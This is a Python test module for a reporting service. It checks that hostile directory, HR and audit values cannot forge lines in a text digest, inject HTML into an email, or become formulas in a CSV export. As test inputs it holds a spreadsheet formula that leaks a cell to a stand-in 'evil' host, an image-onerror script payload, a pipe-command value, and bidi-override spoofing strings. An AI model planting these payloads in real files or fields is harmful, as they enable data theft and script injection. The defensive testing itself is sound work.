"""Hostile outside values on every output of the report: plain-text digest, HTML digest, CSV.

Display names, UPNs and methods come from the directory, joiner names from the HR feed, failure
reasons from the audit log, details from Graph, findings from the doctor: all of them are
attacker-controlled. None may forge a line of the plain text, flip text with a bidi control,
become markup in the HTML, or become a formula in the CSV.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import unicodedata
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.config import Settings
from shared.domain.email import OutgoingEmail
from shared.domain.errors import PermanentError
from shared.domain.registration_activity import RegistrationEvent
from shared.report.safe_text import (
    FORMULA_TRIGGERS,
    NAME_CHARS,
    SENTENCE_CHARS,
    csv_cell,
    is_formula,
    line,
    sentence,
)
from shared.report.snapshots import REPORT_HTML, USERS_CSV
from tests.fakes import FakeBlobStore, FakeDirectory, FakeLedger, FakeMailer
from tests.unit.intake.helpers import SECRET
from tests.unit.report.conftest import (
    NOW,
    PagedDirectory,
    cohort_records,
    daily_run,
    findings,
    make_settings,
)
from tests.unit.report.tenant_rows import ROWS

FORGED = "TOTAL enrolled: 100%"
RLO = "\u202e"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
# Never in a rendered value: C0 (CR, LF, TAB...), DEL, C1 (NEL...), separators, bidi controls.
UNSAFE = re.compile(f"[\x00-\x1f\x7f-\x9f\u2028\u2029{BIDI}]")
UNSAFE_IN_HTML_TEXT = re.compile(f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029{BIDI}]")

# One hostile value per way in; `shown` is how the digest must write it (one line).
ADMIN_NAME = f"Eve\r\n{FORGED}"
UPN = f"mallory{RLO}gpj.exe@contoso.example"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FULL_WIDTH = "\uff1d1+1"
PIPE = "|cmd /c calc"
METHOD = f"fido2\u200e\n{FORGED}"  # an LRM, then a line break
JOINER = f"Joiner\u2028{FORGED}\x1b[2J\u200f" + "y" * 3000  # an RLM, and far too long
MASKED = f"m***r@contoso.example\u2066\u0085{FORGED}"
AUDIT_METHOD = f"Passkey\r{FORGED}"
AUDIT_REASON = f"Blocked by policy\n{FORGED} <img src=x onerror=alert(1)>"
FINDING = f"group 'Pilot\n{FORGED}' is dynamic{RLO}"


def settings(**env: str) -> Settings:
    # A webhook secret of Standard Webhooks strength: the settings refuse one under 24 bytes.
    return make_settings(HR_WEBHOOK_SECRETS=SECRET, **env)


def hostile_rows() -> list[dict[str, object]]:
    carol, bob = ROWS[2], ROWS[1]  # two admins with findings
    return [
        {**ROWS[0], "userDisplayName": FORMULA_NAME},
        {**bob, "userDisplayName": ADMIN_NAME, "methodsRegistered": [METHOD]},
        {**carol, "userPrincipalName": UPN, "userDisplayName": ""},
        {**ROWS[3], "userDisplayName": FULL_WIDTH},
        {**ROWS[4], "userDisplayName": PIPE},
        {**ROWS[5], "userDisplayName": f"\n{FORGED}"},
        {
            **ROWS[6],
            "userDisplayName": " \t=1+1",
            "userPrincipalName": "\uff20evil@contoso.example",
        },
        *ROWS[7:],
    ]


def run_hostile_digest() -> tuple[OutgoingEmail, FakeBlobStore]:
    report_settings = settings(BRAND_SUPPORT_CONTACT=f"helpdesk\r\n{FORGED}")
    records = cohort_records()
    stuck = replace(records[3], display_name=JOINER, delivered_to_masked=MASKED)
    ledger = FakeLedger()
    ledger.records.update({r.tracking_id: r for r in [*records[:3], stuck, *records[4:]]})
    directory = FakeDirectory()
    directory.audit = [
        RegistrationEvent(NOW - timedelta(hours=2), AUDIT_METHOD, False, AUDIT_REASON),
        RegistrationEvent(NOW - timedelta(hours=1), AUDIT_METHOD, True, ""),
    ]
    blobs, mailer = FakeBlobStore(), FakeMailer()
    run = daily_run(
        report_settings,
        report=PagedDirectory([hostile_rows()]),
        ledger=ledger,
        blobs=blobs,
        mailer=mailer,
        directory=directory,
        doctor=findings({"check": "groups", "status": "warn", "found": FINDING, "fix": FINDING}),
    )
    result = asyncio.run(run(send=True, scheduled=True, fan_out=False))
    assert result.ok
    [(email, _)] = mailer.sent
    return email, blobs


@pytest.fixture(scope="module")
def hostile() -> tuple[OutgoingEmail, FakeBlobStore]:
    return run_hostile_digest()


# -- the plain-text digest ---------------------------------------------------------------------


def test_no_hostile_value_forges_a_line_of_the_text_digest(
    hostile: tuple[OutgoingEmail, FakeBlobStore],
) -> None:
    text = hostile[0].text
    lines = text.splitlines()

    assert not any(line_.lstrip(" -").startswith(FORGED) for line_ in lines)
    assert all(not UNSAFE.search(line_) for line_ in lines)
    assert f"  - Eve {FORGED} <bob@contoso.example>: fido2 {FORGED}" in lines
    assert "  - mallory gpj.exe@contoso.example <mallory gpj.exe@contoso.example>: none" in lines
    assert f"  - WARN groups: group 'Pilot {FORGED}' is dynamic -- fix: group 'Pilot" in text
    joiner = line(JOINER)
    assert joiner.startswith(f"Joiner {FORGED} [2J yyy") and joiner.endswith("yyy\u2026")
    assert len(joiner) == NAME_CHARS
    assert f"    - {joiner} (TAP sent to m***r@contoso.example {FORGED}," in text
    assert "y" * NAME_CHARS not in text
    assert any(
        line_.startswith(f"  Passkey {FORGED}") and line_.endswith("1 registered, 1 failed")
        for line_ in lines
    )
    assert f"    - Blocked by policy {FORGED} <img src=x onerror=alert(1)> (1)" in lines
    assert f"Questions: helpdesk {FORGED}." in lines


def test_the_error_digest_keeps_a_hostile_graph_detail_on_one_line() -> None:
    mailer = FakeMailer()
    detail = f"Authorization_RequestDenied\r\n{FORGED}{RLO}<b>x</b>"
    run = daily_run(
        settings(),
        report=PagedDirectory([], fail_with=PermanentError(f"graph_oops\n{FORGED}", detail)),
        mailer=mailer,
    )

    asyncio.run(run(send=True, scheduled=True, fan_out=False))

    [(email, _)] = mailer.sent
    lines = email.text.splitlines()
    assert not any(line_.startswith(FORGED) for line_ in lines)
    assert not any(UNSAFE.search(line_) for line_ in lines)
    assert f"Reason code: graph_oops {FORGED} (Authorization_RequestDenied {FORGED} <b>x</b>)" in (
        lines
    )
    assert not UNSAFE_IN_HTML_TEXT.search(email.html)
    assert "&lt;b&gt;x&lt;/b&gt;" in email.html and "<b>x</b>" not in email.html


# -- the HTML digest (the email, and the report page stored with the snapshot) -----------------


def test_the_html_digest_escapes_and_strips_bidi_and_control_characters(
    hostile: tuple[OutgoingEmail, FakeBlobStore],
) -> None:
    email, blobs = hostile
    [(stored_page, _)] = [v for k, v in blobs.blobs.items() if k.endswith(REPORT_HTML)]

    for html in (email.html, stored_page.decode()):
        assert not UNSAFE_IN_HTML_TEXT.search(html)
        assert "<img src=x" not in html
        assert "&lt;img src=x onerror=alert(1)&gt;" in html
        assert f"Eve {FORGED}" in html
        assert "mallory gpj.exe@contoso.example" in html
        assert f"Joiner {FORGED} [2J yyy" in html and "y" * NAME_CHARS not in html
        assert f"group &#39;Pilot {FORGED}&#39; is dynamic" in html
        assert f"Questions: helpdesk {FORGED}." in html


def test_the_subject_stays_one_header(hostile: tuple[OutgoingEmail, FakeBlobStore]) -> None:
    subject = hostile[0].subject
    assert not UNSAFE.search(subject) and len(subject) <= 200


# -- the CSV (the attachment, and the snapshot's users.csv) ------------------------------------


def test_the_csv_keeps_one_row_per_user_and_no_cell_is_a_formula(
    hostile: tuple[OutgoingEmail, FakeBlobStore],
) -> None:
    email, blobs = hostile
    [attachment] = email.attachments
    [(stored, _)] = [v for k, v in blobs.blobs.items() if k.endswith(USERS_CSV)]
    assert attachment.content == stored

    header, *rows = list(csv.reader(io.StringIO(stored.decode("utf-8"), newline="")))
    assert len(rows) == len(hostile_rows()) and all(len(r) == len(header) for r in rows)
    cells = {r[header.index("id")]: dict(zip(header, r, strict=True)) for r in rows}
    for row in cells.values():
        for value in row.values():
            assert not is_formula(value) or value.startswith("'"), value
            assert not re.search(f"[{BIDI}\x00-\x08\x0b\x0c\x0e-\x1f]", value), value
    assert cells["id-alice"]["userDisplayName"] == "'" + FORMULA_NAME
    assert cells["id-bob"]["userDisplayName"] == ADMIN_NAME  # CR/LF stay inside the quoted cell
    assert cells["id-bob"]["methodsRegistered"] == f"fido2 \n{FORGED}"  # the LRM spaced out
    assert cells["id-carol"]["userPrincipalName"] == "mallory gpj.exe@contoso.example"
    assert cells["id-dave"]["userDisplayName"] == "'" + FULL_WIDTH
    assert cells["id-erin"]["userDisplayName"] == "'" + PIPE
    assert cells["id-frank"]["userDisplayName"] == f"'\n{FORGED}"
    assert cells["id-grace"]["userDisplayName"] == "' \t=1+1"
    assert cells["id-grace"]["userPrincipalName"] == "'\uff20evil@contoso.example"


# -- the filters themselves --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (f"Eve\r\n{FORGED}", f"Eve {FORGED}"),
        (f"\n{FORGED}", FORGED),
        ("a\tb\x0bc\x0cd\x85e\u2028f\u2029g", "a b c d e f g"),
        (f"Bob{RLO}gpj.exe", "Bob gpj.exe"),
        (f"x{BIDI}y", "x y"),
        ("\x00\x1b[31mred\x7f", "[31mred"),
        ("  Zoë   O'Brien-Müller 名前 ", "Zoë O'Brien-Müller 名前"),
        ("👩\u200d💻 dev", "👩\u200d💻 dev"),  # ZWJ joins an emoji: kept
        ('=HYPERLINK("x")', '=HYPERLINK("x")'),  # plain text: no formula to fear
        (None, ""),
        (7, "7"),
    ],
)
def test_line_flattens_controls_and_bidi_and_keeps_text(raw: object, shown: str) -> None:
    assert line(raw) == shown


def test_line_and_sentence_are_capped() -> None:
    long = "x" * 5000
    assert line(long) == "x" * (NAME_CHARS - 1) + "\u2026"
    assert len(sentence(long)) == SENTENCE_CHARS and sentence(long).endswith("\u2026")
    assert line("y" * NAME_CHARS) == "y" * NAME_CHARS


@given(st.text())
def test_line_never_leaves_an_unsafe_character(value: str) -> None:
    shown = line(value)
    assert not UNSAFE.search(shown)
    assert len(shown) <= NAME_CHARS
    assert shown == shown.strip() and "  " not in shown


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("|cmd", "'|cmd"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width =
        ("\uff0b1", "'\uff0b1"),  # full-width +
        ("\uff0d1", "'\uff0d1"),  # full-width -
        ("\uff20x", "'\uff20x"),  # full-width @
        ("\uff5ccmd", "'\uff5ccmd"),  # full-width |
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("\nplain", "'\nplain"),  # a leading line break alone is quoted too
        ("  =1", "'  =1"),
        ("\u00a0\u3000=1", "'\u00a0\u3000=1"),  # no-break and ideographic spaces
        ("\u200b=1", "'\u200b=1"),  # zero-width space
        (f"{RLO}=1", "' =1"),  # the bidi override becomes a space, the cell is quoted
        ("\x00@x", "' @x"),
        (f"Bob{RLO}gpj.exe", "Bob gpj.exe"),
        ("Ana-Maria", "Ana-Maria"),
        ("a=b", "a=b"),
        ("a\nb", "a\nb"),
        ("", ""),
    ],
)
def test_csv_cell_quotes_formulas_and_strips_bidi(raw: str, written: str) -> None:
    assert csv_cell(raw) == written


@given(st.text())
def test_csv_cell_never_leaves_a_formula_or_a_bidi_control(value: str) -> None:
    cell = csv_cell(value)
    first = next(
        (c for c in cell if not (c.isspace() or unicodedata.category(c) in ("Cc", "Cf"))), ""
    )
    assert cell.startswith("'") or (
        first not in FORMULA_TRIGGERS and not cell.startswith(("\t", "\r", "\n"))
    )
    assert not re.search(f"[{BIDI}\u2028\u2029]", cell)
